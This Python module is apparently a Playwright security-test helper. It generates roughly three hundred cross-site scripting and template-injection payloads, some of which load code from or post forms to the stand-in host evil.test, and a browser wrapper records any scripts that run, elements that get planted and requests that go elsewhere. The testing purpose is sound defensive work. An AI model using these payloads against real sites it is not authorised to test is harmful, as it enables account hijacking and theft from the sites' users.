"""Markup and scripts as an attacker types them into a form, and a browser that notices them."""

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from itertools import product

from playwright.sync_api import Browser, ConsoleMessage, Dialog, Page, Request

_RUN = "alert('ran')"
# Each bears a mark: what stands in a page as an element is found even where no policy let it run.
_ELEMENTS = (
    f"<script data-evil>{_RUN}</script>",
    "<script data-evil src=//evil.test/x.js></script>",
    f"<ScRiPt data-evil>{_RUN}</sCrIpT >",
    f"<img data-evil src=x onerror={_RUN}>",
    f"<img/data-evil/src=x/onerror={_RUN}>",
    f"<svg data-evil onload={_RUN}>",
    f"<svg data-evil><script>{_RUN}</script></svg>",
    f"<svg data-evil><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body data-evil onload={_RUN}>",
    f"<details data-evil open ontoggle={_RUN}>",
    f"<input data-evil autofocus onfocus={_RUN}>",
    f"<select data-evil autofocus onfocus={_RUN}>",
    f"<video data-evil src=x onerror={_RUN}>",
    f"<audio data-evil src=x onerror={_RUN}>",
    f"<video data-evil><source onerror={_RUN}></video>",
    f'<iframe data-evil src="javascript:{_RUN}"></iframe>',
    f'<iframe data-evil srcdoc="<script>{_RUN}</script>"></iframe>',
    f'<object data-evil data="javascript:{_RUN}"></object>',
    f'<embed data-evil src="javascript:{_RUN}">',
    f"<marquee data-evil onstart={_RUN}>",
    f"<a data-evil id=x tabindex=1 autofocus onfocus={_RUN}>x</a>",
    f"<style data-evil>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={_RUN}>",
    "<link data-evil rel=stylesheet href=//evil.test/x.css>",
    "<meta data-evil http-equiv=refresh content=0;url=//evil.test/>",
    "<base data-evil href=//evil.test/>",
    "<form data-evil action=//evil.test/><button autofocus>",
    f'<math data-evil><mi xlink:href="javascript:{_RUN}">x</mi></math>',
    f"<template data-evil><img src=x onerror={_RUN}></template>",
    f'<noscript><p title="</noscript><img data-evil src=x onerror={_RUN}>">',
)
_WAYS_OUT = (
    *("", '">', "'>", "</title>", "</textarea>", "</script>", "--></style>"),
    "</option></select></template>",
)
_ATTRIBUTES = (
    *('" {} "', "' {} '", '"{} ', "'{} ", "` {} `", "x {} ", '\\" {} \\"', "&quot; {} &quot;"),
)
_HANDLERS = (
    f"autofocus onfocus={_RUN} data-evil=",
    f"onmouseover={_RUN} data-evil=",
    f"style=animation:x onanimationend={_RUN} data-evil=",
)
_ODD = (
    *(
        f"javascript:{_RUN}",
        f"JaVaScRiPt:{_RUN}//",
        f"java\tscript:{_RUN}",
        f"\x01javascript:{_RUN}",
    ),
    *(f"data:text/html,<script>{_RUN}</script>", f"vbscript:{_RUN}", f"//evil.test/{_RUN}"),
    *(f"'-{_RUN}-'", f'"-{_RUN}-"', f"';{_RUN}//", f"\\';{_RUN}//", f"</script><script>{_RUN}//"),
    *("{{7*191}}", "{%print(7*191)%}", "${7*191}", "#{7*191}", "<%=7*191%>", "{{{7*191}}}"),
    *("{{config}}", "{{''.__class__}}", "{{greeting}}", "{% raw %}", "@(7*191)", "*{7*191}"),
    *(
        f"&lt;script data-evil&gt;{_RUN}&lt;/script&gt;",
        f"&#60;img data-evil src=x onerror={_RUN}&#62;",
    ),
    *(
        f"%3Cscript%20data-evil%3E{_RUN}%3C/script%3E",
        f"\\u003cimg data-evil onerror={_RUN}\\u003e",
    ),
    *(
        f"＜script data-evil＞{_RUN}＜/script＞",
        f"+ADw-script data-evil+AD4-{_RUN}+ADw-/script+AD4-",
    ),
    *(
        f"<<script data-evil>{_RUN}//<</script>",
        f"<scr<script>ipt data-evil>{_RUN}</scr</script>ipt>",
    ),
    *(f"<svg\x0cdata-evil\x0conload={_RUN}>", f"<svg\ndata-evil\nonload={_RUN}\n>"),
    *(f"[x](javascript:{_RUN})", f'![x](x"onerror={_RUN} data-evil=)', f"<javascript:{_RUN}>"),
    *(f"<![CDATA[<img data-evil src=x onerror={_RUN}>]]>", f"<?xml?><svg data-evil onload={_RUN}>"),
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */{_RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt"
    f"/--!>\\x3csVg/data-evil/<sVg/oNloAd={_RUN}//>\\x3e",
)
PAYLOADS: tuple[str, ...] = (
    *(out + element for element, out in product(_ELEMENTS, _WAYS_OUT)),
    *(attribute.format(handler) for attribute, handler in product(_ATTRIBUTES, _HANDLERS)),
    *_ODD,
)
"""Some three hundred: elements that run a script, ways out of where text stands, attributes,
addresses, templates, encodings.
"""
A_FEW = PAYLOADS[:: len(PAYLOADS) // 12]

_WATCHED = """
document.addEventListener('securitypolicyviolation', violation =>
    console.error('policy: ' + violation.violatedDirective + ' ' + violation.sample));
"""
_PLANTED = """
[...document.querySelectorAll('[data-evil]'),
 ...[...document.querySelectorAll('*')].filter(element =>
    [...element.attributes].some(({name, value}) => /^on/.test(name)
    || /^(href|src|action|formaction|data|srcdoc)$/.test(name)
    && /^[\\x00-\\x20]*(j\\s*a\\s*v\\s*a\\s*|vb)script:|^data:text|evil\\.test/i.test(value)))
].map(element => element.outerHTML.slice(0, 120))
"""


@dataclass
class Lookout:
    """A page of a browser that notes each script and each element that somebody smuggled in."""

    page: Page
    origin: str
    noted: list[str] = field(default_factory=list)

    def visit(self, path: str) -> None:
        """Open a page of the site and look."""
        answer = self.page.goto(path)
        assert answer is not None and answer.status < 500, f"{path}: {answer}"
        self._look(path)

    def read(self, markup: str, what: str) -> None:
        """Show this markup as it is, with no policy that would keep a script in it from running."""
        self.page.goto("about:blank")
        self.page.set_content(markup)
        self._look(what)

    def _look(self, where: str) -> None:
        # A round trip: what was to run at once has run by then.
        self.noted += [f"an element: {found}" for found in self.page.evaluate(_PLANTED)]
        if "1337" in self.page.locator("body").inner_text():
            self.noted.append("a template was filled in")
        self.noted = [one if one.startswith("at ") else f"at {where}: {one}" for one in self.noted]

    def note_dialog(self, dialog: Dialog) -> None:
        self.noted.append(f"a script ran: {dialog.message}")
        dialog.dismiss()

    def note_console(self, message: ConsoleMessage) -> None:
        if message.type == "error" and "Failed to load resource" not in message.text:
            self.noted.append(f"the console: {message.text[:200]}")

    def note_request(self, request: Request) -> None:
        if not request.url.startswith((self.origin + "/", "data:", "about:", "blob:", "chrome-")):
            self.noted.append(f"asked elsewhere: {request.url[:120]}")


@contextmanager
def open_lookout(browser: Browser, site: str, cookie: str = "") -> Iterator[Lookout]:
    """One for the length of a ``with``, signed in where the ``cookie`` says so."""
    context = browser.new_context(base_url=site, locale="en-US")
    context.add_init_script(_WATCHED)
    if cookie:
        name, _, value = cookie.partition("=")
        context.add_cookies([{"name": name, "value": value, "url": site}])
    lookout = Lookout(context.new_page(), site)
    lookout.page.on("dialog", lookout.note_dialog)
    lookout.page.on("console", lookout.note_console)
    context.on("request", lookout.note_request)
    try:
        yield lookout
    finally:
        context.close()
